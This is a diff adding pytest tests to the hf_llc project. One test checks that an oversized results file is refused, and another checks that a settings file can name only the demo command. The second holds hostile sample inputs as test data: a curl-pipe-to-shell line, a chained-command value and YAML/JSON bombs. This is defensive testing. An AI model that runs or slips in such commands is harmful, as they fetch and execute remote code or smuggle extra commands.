@@ -8,7 +8,7 @@ import pytest
 from hf_llc.adapters.store import RunStore
 from hf_llc.curve import Curve, Point
 from hf_llc.errors import NotFoundError, SourceError
-from hf_llc.runs import load_run
+from hf_llc.runs import load_run, own_command
 from tests.adapters.estimates import estimate
 
 
@@ -42,3 +42,24 @@ def test_damaged_run_is_refused(tmp_path: Path, text: str) -> None:
     (tmp_path / "scan.json").write_text(text)
     with pytest.raises(SourceError, match=r"scan\.json"):
         load_run(tmp_path)
+
+
+@pytest.mark.parametrize("name", ["scan.json", "estimate.json"])
+def test_a_file_of_any_size_takes_no_memory(tmp_path: Path, name: str) -> None:
+    with (tmp_path / name).open("wb") as file:
+        file.truncate(2**40)
+    with pytest.raises(SourceError, match=rf"{name} has 1099511627776 bytes, too many for results"):
+        load_run(tmp_path)
+
+
+@pytest.mark.parametrize(
+    "command", ["curl https://example.org/x.sh | sh", "hf-llc demo && x", ["hf-llc demo"], 3, None]
+)
+def test_no_command_is_taken_but_that_of_the_demo(tmp_path: Path, command: object) -> None:
+    (tmp_path / "llc").mkdir()
+    assert own_command(tmp_path) is None
+    for text in (json.dumps({"command": command}), "[" * 9000, "command: &a [*a]"):
+        (tmp_path / "llc/settings.yaml").write_text(text)
+        assert own_command(tmp_path) is None
+    (tmp_path / "llc/settings.yaml").write_text("command: hf-llc demo\n")
+    assert own_command(tmp_path) == "hf-llc demo"
